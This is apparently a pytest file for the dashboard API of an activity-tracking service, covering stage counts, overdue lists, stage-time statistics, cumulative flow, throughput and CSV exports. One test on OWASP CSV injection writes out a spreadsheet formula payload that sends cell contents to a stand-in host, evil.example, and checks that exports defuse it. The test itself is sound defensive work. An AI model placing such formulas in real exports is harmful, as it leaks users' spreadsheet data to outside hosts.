"""Dashboard figures against values computed by hand from `tests/oversight/dashboard_data.py`."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from typing import Any

import pytest

from models import Activity, Person, Transition
from tests.oversight.dashboard_data import CLOSED, PP, RTC, TG, TT, WD, DashboardData

STAGES = [TG, TT, PP, RTC, CLOSED, WD]


def counts(
    tg: int = 0, tt: int = 0, pp: int = 0, rtc: int = 0, closed: int = 0, wd: int = 0
) -> dict[str, int]:
    return dict(zip([s.value for s in STAGES], [tg, tt, pp, rtc, closed, wd], strict=True))


async def get_json(client, url: str, headers: dict[str, str], **params: Any) -> Any:
    response = await client.get(url, headers=headers, params=params)
    assert response.status_code == 200, response.text
    return response.json()


async def get_csv(client, url: str, headers: dict[str, str], **params: Any) -> list[dict[str, str]]:
    response = await client.get(url, headers={**headers, "Accept": "text/csv"}, params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


# --- summary ------------------------------------------------------------------------------------


async def test_summary_counts_each_activity_once_per_stage_and_once_per_convention(
    client, dashboard_data: DashboardData, headers
) -> None:
    body = await get_json(client, "/dashboard/summary", headers)
    assert body["total"] == 4
    assert body["by_stage"] == counts(tg=1, tt=1, rtc=1, wd=1)
    assert body["by_convention"] == {
        "BC": counts(tt=1, rtc=1),
        "RC": counts(rtc=1, wd=1),
        "SC": counts(wd=1),
    }
    cells = {(c["stage"], c["convention"], c["thematic_group_code"]): c["count"] for c in body["cells"]}
    assert cells == {
        ("thematic_group", None, "tg2"): 1,  # A4 has no convention
        ("task_team", "BC", "tg1"): 1,  # A2
        ("report_to_cop", "BC", "tg1"): 1,  # A1, under each of its conventions
        ("report_to_cop", "RC", "tg1"): 1,
        ("withdrawn", "RC", "tg2"): 1,  # A3
        ("withdrawn", "SC", "tg2"): 1,
    }


async def test_summary_filters_by_convention_group_and_meeting(
    client, dashboard_data: DashboardData, headers
) -> None:
    by_rc = await get_json(client, "/dashboard/summary", headers, convention="RC")
    assert by_rc["total"] == 2 and by_rc["by_stage"] == counts(rtc=1, wd=1)
    assert {c["convention"] for c in by_rc["cells"]} == {"RC"}

    by_group = await get_json(client, "/dashboard/summary", headers, thematic_group=dashboard_data["tg2"])
    assert by_group["by_stage"] == counts(tg=1, wd=1)

    by_meeting = await get_json(client, "/dashboard/summary", headers, meeting=dashboard_data["m1"])
    assert by_meeting["by_stage"] == counts(rtc=1)

    both = await get_json(
        client, "/dashboard/summary", headers, convention=["BC", "SC"], thematic_group=dashboard_data["tg1"]
    )
    assert both["by_stage"] == counts(tt=1, rtc=1)


async def test_summary_csv_matches_json(client, dashboard_data: DashboardData, headers) -> None:
    body = await get_json(client, "/dashboard/summary", headers)
    rows = await get_csv(client, "/dashboard/summary", headers)
    assert [
        (r["stage"], r["convention"] or None, r["thematic_group_code"], int(r["count"])) for r in rows
    ] == [(c["stage"], c["convention"], c["thematic_group_code"], c["count"]) for c in body["cells"]]
    by_param = await client.get("/dashboard/summary", headers=headers, params={"format": "csv"})
    assert by_param.headers["content-type"].startswith("text/csv")


async def test_dashboard_needs_a_token(client, dashboard_data: DashboardData) -> None:
    assert (await client.get("/dashboard/summary")).status_code == 401


# --- overdue, due soon, upcoming ---------------------------------------------------------------


async def test_overdue_lists_open_activities_past_due_with_days_and_lead(
    client, dashboard_data: DashboardData, headers
) -> None:
    body = await get_json(client, "/dashboard/overdue", headers, as_of="2026-02-10")
    assert body["total"] == 1
    assert body["items"] == [
        {
            "id": dashboard_data["a2"],
            "title": "Customs training",
            "stage": "task_team",
            "due_on": "2026-02-01",
            "days": 9,
            "lead_id": dashboard_data.alice_id,
            "lead_name": "Alice Lead",
            "thematic_group_id": dashboard_data["tg1"],
        }
    ]
    later = await get_json(client, "/dashboard/overdue", headers, as_of="2026-03-30")
    # A3 (withdrawn, due 30 Jan) is not open, so never overdue.
    assert [(i["title"], i["days"]) for i in later["items"]] == [
        ("Customs training", 57),
        ("Mercury inventory", 43),
        ("Joint clearing house", 7),
    ]
    limited = await get_json(client, "/dashboard/overdue", headers, as_of="2026-03-30", limit=1)
    assert limited["total"] == 3 and len(limited["items"]) == 1
    filtered = await get_json(client, "/dashboard/overdue", headers, as_of="2026-03-30", convention="RC")
    assert [i["title"] for i in filtered["items"]] == ["Joint clearing house"]

    rows = await get_csv(client, "/dashboard/overdue", headers, as_of="2026-03-30")
    assert [(int(r["id"]), r["due_on"], int(r["days_overdue"]), r["lead_name"]) for r in rows] == [
        (i["id"], i["due_on"], i["days"], i["lead_name"] or "") for i in later["items"]
    ]


async def test_due_soon_counts_days_left(client, dashboard_data: DashboardData, headers) -> None:
    body = await get_json(client, "/dashboard/due-soon", headers, as_of="2026-02-10")
    assert [(i["title"], i["due_on"], i["days"]) for i in body["items"]] == [
        ("Mercury inventory", "2026-02-15", 5),
    ]
    wider = await get_json(client, "/dashboard/due-soon", headers, as_of="2026-02-10", days=41)
    assert [(i["title"], i["days"]) for i in wider["items"]] == [
        ("Mercury inventory", 5),
        ("Joint clearing house", 41),
    ]
    assert wider["items"][1]["lead_name"] == "Alice Lead"
    rows = await get_csv(client, "/dashboard/due-soon", headers, as_of="2026-02-10", days=41)
    assert [int(r["days_left"]) for r in rows] == [5, 41]


async def test_upcoming_merges_stage_deadlines_meetings_and_document_deadlines(
    client, dashboard_data: DashboardData, headers
) -> None:
    body = await get_json(client, "/dashboard/upcoming", headers, as_of="2026-02-10", days=90)
    assert [(i["date"], i["kind"], i["days_left"]) for i in body["items"]] == [
        ("2026-02-15", "stage_due", 5),  # A4
        ("2026-03-23", "stage_due", 41),  # A1
        ("2026-03-23", "document_deadline", 41),  # M1: six weeks before 4 May
        ("2026-05-04", "meeting", 83),  # M1 opens
    ]
    assert body["items"][3]["meeting_id"] == dashboard_data["m1"]
    assert body["items"][3]["ends_on"] == "2026-05-15"
    assert body["items"][3]["conventions"] == ["BC", "RC", "SC"]

    longer = await get_json(client, "/dashboard/upcoming", headers, as_of="2026-02-10", days=180)
    assert [(i["date"], i["kind"]) for i in longer["items"]][-1] == (
        "2026-08-01",
        "document_deadline",  # M2's override; M2 itself opens 7 Sept, past the window
    )
    only_rc_meeting = await get_json(
        client, "/dashboard/upcoming", headers, as_of="2026-02-10", days=180, meeting=dashboard_data["m2"]
    )
    assert [(i["date"], i["kind"]) for i in only_rc_meeting["items"]] == [("2026-08-01", "document_deadline")]
    rows = await get_csv(client, "/dashboard/upcoming", headers, as_of="2026-02-10", days=90)
    assert [(r["date"], r["kind"], int(r["days_left"])) for r in rows] == [
        (i["date"], i["kind"], i["days_left"]) for i in body["items"]
    ]


async def test_csv_exports_never_hand_a_spreadsheet_a_formula(
    client, db, dashboard_data: DashboardData, headers
) -> None:
    """OWASP CSV injection: text starting with = + - @ tab or CR is prefixed with a quote; numbers
    (negative ones too) stay numbers."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    async with db() as session, session.begin():
        activity = await session.get_one(Activity, dashboard_data["a1"])
        activity.title = formula
        lead = await session.get_one(Person, dashboard_data.alice_id)
        lead.name = "@SUM(1+1)"
    rows = await get_csv(client, "/dashboard/overdue", headers, as_of="2026-03-30")
    row = next(r for r in rows if int(r["id"]) == dashboard_data["a1"])
    assert row["title"] == "'" + formula
    assert row["lead_name"] == "'@SUM(1+1)"
    assert int(row["days_overdue"]) == 7
    body = await get_json(client, "/dashboard/overdue", headers, as_of="2026-03-30")
    assert formula in [item["title"] for item in body["items"]]  # JSON keeps the text as written


# --- stage times --------------------------------------------------------------------------------


async def test_stage_times_median_and_p90_from_consecutive_transitions(
    client, dashboard_data: DashboardData, headers
) -> None:
    body = await get_json(client, "/dashboard/stage-times", headers)
    in_stage = {d["stage"]: d for d in body["time_in_stage"]}
    # Completed stays (days): thematic_group A1 2, A2 4 (from its logged creation), A3 2;
    # task_team A1 5, A3 10 and 3 (after rework; A2 is still there); pilot_project A1 9, A3 2.
    assert set(in_stage) == {"thematic_group", "task_team", "pilot_project"}
    assert in_stage["thematic_group"]["count"] == 3
    assert in_stage["thematic_group"]["median_days"] == pytest.approx(2.0)
    assert in_stage["thematic_group"]["p90_days"] == pytest.approx(3.6)  # 2 + 0.8 × (4 − 2)
    assert in_stage["thematic_group"]["mean_days"] == pytest.approx(8 / 3)
    assert in_stage["task_team"]["count"] == 3
    assert in_stage["task_team"]["median_days"] == pytest.approx(5.0)
    assert in_stage["task_team"]["p90_days"] == pytest.approx(9.0)  # 5 + 0.8 × (10 − 5)
    assert in_stage["pilot_project"]["count"] == 2
    assert in_stage["pilot_project"]["median_days"] == pytest.approx(5.5)
    assert in_stage["pilot_project"]["p90_days"] == pytest.approx(8.3)  # 2 + 0.9 × (9 − 2)

    cycle = {d["stage"]: d for d in body["cycle_time"]}
    # First arrivals, from the start: A1 (5 Jan 10:00) TT 2, PP 7, RTC 16; A2 (logged creation
    # 5 Jan 12:00, not created_at 11:00) TT 4; A3 (6 Jan) TT 2, PP 12, withdrawn 17.
    assert set(cycle) == {"task_team", "pilot_project", "report_to_cop", "withdrawn"}
    assert (
        cycle["task_team"]["count"],
        cycle["task_team"]["median_days"],
        cycle["task_team"]["p90_days"],
    ) == (3, pytest.approx(2.0), pytest.approx(3.6))
    assert (cycle["pilot_project"]["median_days"], cycle["pilot_project"]["p90_days"]) == (
        pytest.approx(9.5),
        pytest.approx(11.5),
    )
    assert cycle["report_to_cop"]["median_days"] == pytest.approx(16.0)
    assert cycle["withdrawn"]["p90_days"] == pytest.approx(17.0)


async def test_stage_times_by_range_and_filter(client, dashboard_data: DashboardData, headers) -> None:
    # Stays ending 12–20 Jan: TT A1 5 (12 Jan); PP A3 2 (20 Jan); TT A3 10 (18 Jan).
    body = await get_json(
        client, "/dashboard/stage-times", headers, **{"from": "2026-01-12", "to": "2026-01-20"}
    )
    in_stage = {d["stage"]: (d["count"], d["median_days"]) for d in body["time_in_stage"]}
    assert in_stage == {
        "task_team": (2, pytest.approx(7.5)),
        "pilot_project": (1, pytest.approx(2.0)),
    }
    only_a3 = await get_json(client, "/dashboard/stage-times", headers, thematic_group=dashboard_data["tg2"])
    assert {d["stage"]: d["count"] for d in only_a3["time_in_stage"]} == {
        "thematic_group": 1,
        "task_team": 2,
        "pilot_project": 1,
    }


async def test_a_move_dated_before_the_activity_was_created_counts_as_no_time_not_less(
    client, db, dashboard_data: DashboardData, headers
) -> None:
    """Rows an earlier version loaded with shifted dates had moves before creation (issue 12)."""
    async with db() as session, session.begin():
        activity = await session.get(Activity, dashboard_data["a4"])
        assert activity is not None
        session.add(
            Transition(
                activity_id=activity.id,
                seq=1,
                from_stage=TG,
                to_stage=TT,
                actor_id=dashboard_data.alice_id,
                at=activity.created_at - timedelta(days=30),
            )
        )
    body = await get_json(client, "/dashboard/stage-times", headers, thematic_group=dashboard_data["tg2"])
    stays = {d["stage"]: d for d in body["time_in_stage"]}
    assert stays["thematic_group"]["count"] == 2  # A3's stay of 2 days and A4's of -30, counted as 0
    assert stays["thematic_group"]["median_days"] == pytest.approx(1.0)
    every_figure = [
        d[key]
        for part in ("time_in_stage", "cycle_time")
        for d in body[part]
        for key in ("median_days", "p90_days", "mean_days")
    ]
    assert min(every_figure) >= 0


async def test_stage_times_csv_matches_json(client, dashboard_data: DashboardData, headers) -> None:
    body = await get_json(client, "/dashboard/stage-times", headers)
    rows = await get_csv(client, "/dashboard/stage-times", headers)
    expected = [
        (measure, d["stage"], d["count"], d["median_days"], d["p90_days"])
        for measure in ("time_in_stage", "cycle_time")
        for d in body[measure]
    ]
    assert [
        (r["measure"], r["stage"], int(r["count"]), float(r["median_days"]), float(r["p90_days"]))
        for r in rows
    ] == expected


# --- cumulative flow and throughput -----------------------------------------------------------


DAILY_FLOW = {  # end of day: TG, TT, PP, RTC (nothing closed; A3 withdrawn on 23 Jan)
    "2026-01-07": counts(tg=2, tt=1),  # baseline (end of 6 Jan) TG 3; A1 → TT
    "2026-01-08": counts(tg=1, tt=2),  # A3 → TT
    "2026-01-09": counts(tt=3),  # A2 → TT
    "2026-01-10": counts(tt=3),
    "2026-01-11": counts(tt=3),
    "2026-01-12": counts(tg=1, tt=2, pp=1),  # A1 → PP; A4 created
    "2026-01-13": counts(tg=1, tt=2, pp=1),
    "2026-01-14": counts(tg=1, tt=2, pp=1),
    "2026-01-15": counts(tg=1, tt=2, pp=1),
    "2026-01-16": counts(tg=1, tt=2, pp=1),
    "2026-01-17": counts(tg=1, tt=2, pp=1),
    "2026-01-18": counts(tg=1, tt=1, pp=2),  # A3 → PP (at midnight)
    "2026-01-19": counts(tg=1, tt=1, pp=2),
    "2026-01-20": counts(tg=1, tt=2, pp=1),  # A3 back to TT
    "2026-01-21": counts(tg=1, tt=2, rtc=1),  # A1 → RTC
    "2026-01-22": counts(tg=1, tt=2, rtc=1),
    "2026-01-23": counts(tg=1, tt=1, rtc=1, wd=1),  # A3 withdrawn
}


async def test_cumulative_flow_per_day_is_rebuilt_from_the_log(
    client, dashboard_data: DashboardData, headers
) -> None:
    body = await get_json(
        client, "/dashboard/cumulative-flow", headers, **{"from": "2026-01-07", "to": "2026-01-23"}
    )
    assert body["interval"] == "day"
    assert {p["date"]: p["counts"] for p in body["points"]} == DAILY_FLOW
    assert [p["date"] for p in body["points"]] == sorted(DAILY_FLOW)

    rows = await get_csv(
        client, "/dashboard/cumulative-flow", headers, **{"from": "2026-01-07", "to": "2026-01-23"}
    )
    assert {r.pop("date"): {k: int(v) for k, v in r.items()} for r in rows} == DAILY_FLOW


async def test_cumulative_flow_per_week_ends_on_sundays(
    client, dashboard_data: DashboardData, headers
) -> None:
    body = await get_json(
        client,
        "/dashboard/cumulative-flow",
        headers,
        interval="week",
        **{"from": "2026-01-07", "to": "2026-01-20"},
    )
    assert (body["start"], body["end"]) == ("2026-01-05", "2026-01-25")  # whole weeks
    assert {p["date"]: p["counts"] for p in body["points"]} == {
        "2026-01-11": counts(tt=3),
        "2026-01-18": counts(tg=1, tt=1, pp=2),
        "2026-01-25": counts(tg=1, tt=1, rtc=1, wd=1),
    }
    before_anything = await get_json(
        client, "/dashboard/cumulative-flow", headers, **{"from": "2025-12-30", "to": "2026-01-04"}
    )
    assert all(p["counts"] == counts() for p in before_anything["points"])


async def test_cumulative_flow_filters_by_convention(client, dashboard_data: DashboardData, headers) -> None:
    body = await get_json(
        client,
        "/dashboard/cumulative-flow",
        headers,
        convention="SC",
        **{"from": "2026-01-17", "to": "2026-01-23"},
    )
    assert [p["counts"] for p in body["points"]] == [
        counts(tt=1),
        counts(pp=1),
        counts(pp=1),
        counts(tt=1),
        counts(tt=1),
        counts(tt=1),
        counts(wd=1),
    ]


async def test_throughput_counts_transitions_per_week_by_target_stage(
    client, dashboard_data: DashboardData, headers
) -> None:
    body = await get_json(
        client, "/dashboard/throughput", headers, **{"from": "2026-01-05", "to": "2026-01-25"}
    )
    assert [(p["start"], p["end"], p["total"]) for p in body["points"]] == [
        ("2026-01-05", "2026-01-11", 4),
        ("2026-01-12", "2026-01-18", 2),
        ("2026-01-19", "2026-01-25", 3),
    ]
    assert [p["counts"] for p in body["points"]] == [
        counts(tg=1, tt=3),  # A2's logged creation; A1, A3, A2 → TT
        counts(pp=2),  # A1, A3 → PP
        counts(tt=1, rtc=1, wd=1),  # A3 rework, A1 → RTC, A3 withdrawn
    ]
    assert body["totals"] == counts(tg=1, tt=4, pp=2, rtc=1, wd=1)
    rows = await get_csv(
        client, "/dashboard/throughput", headers, **{"from": "2026-01-05", "to": "2026-01-25"}
    )
    assert [(r["start"], int(r["task_team"]), int(r["total"])) for r in rows] == [
        ("2026-01-05", 3, 4),
        ("2026-01-12", 0, 2),
        ("2026-01-19", 1, 3),
    ]
    daily = await get_json(
        client, "/dashboard/throughput", headers, interval="day", **{"from": "2026-01-18", "to": "2026-01-18"}
    )
    assert daily["points"] == [
        {"start": "2026-01-18", "end": "2026-01-18", "counts": counts(pp=1), "total": 1}
    ]


async def test_ranges_are_validated(client, dashboard_data: DashboardData, headers) -> None:
    backwards = await client.get(
        "/dashboard/throughput", headers=headers, params={"from": "2026-02-01", "to": "2026-01-01"}
    )
    assert backwards.status_code == 422
    too_long = await client.get(
        "/dashboard/cumulative-flow", headers=headers, params={"from": "2000-01-01", "to": "2026-01-01"}
    )
    assert too_long.status_code == 422 and too_long.json()["code"] == "range_too_long"


# --- the event list ----------------------------------------------------------------------------


async def test_events_are_paginated_by_transition_id(client, dashboard_data: DashboardData, headers) -> None:
    first = await get_json(client, "/events", headers, limit=4)
    assert first["next_cursor"] == str(first["items"][-1]["id"]) and len(first["items"]) == 4
    assert first["next_after"] == first["items"][-1]["id"] and first["total"] is None
    assert first["items"][0]["activity_title"] == "Joint clearing house"
    assert first["items"][0]["actor_name"] == "Test Coordinator"
    rest = await get_json(client, "/events", headers, after=first["next_cursor"], limit=100, count="true")
    assert rest["next_cursor"] is None and len(rest["items"]) == 5 and rest["total"] == 9
    ids = [e["id"] for e in first["items"] + rest["items"]]
    assert ids == sorted(ids) and len(set(ids)) == 9
    empty = await get_json(client, "/events", headers, after=rest["next_after"])
    assert empty == {
        "items": [],
        "next_cursor": None,
        "prev_cursor": None,
        "total": None,
        "next_after": rest["next_after"],
    }
    only_a3 = await get_json(client, "/events", headers, activity_id=dashboard_data["a3"])
    assert [e["to_stage"] for e in only_a3["items"]] == [
        "task_team",
        "pilot_project",
        "task_team",
        "withdrawn",
    ]


async def test_due_windows_follow_as_of(client, dashboard_data: DashboardData, headers) -> None:
    today = date(2026, 2, 14)
    body = await get_json(client, "/dashboard/due-soon", headers, as_of=today.isoformat(), days=1)
    assert [i["due_on"] for i in body["items"]] == [(today + timedelta(days=1)).isoformat()]
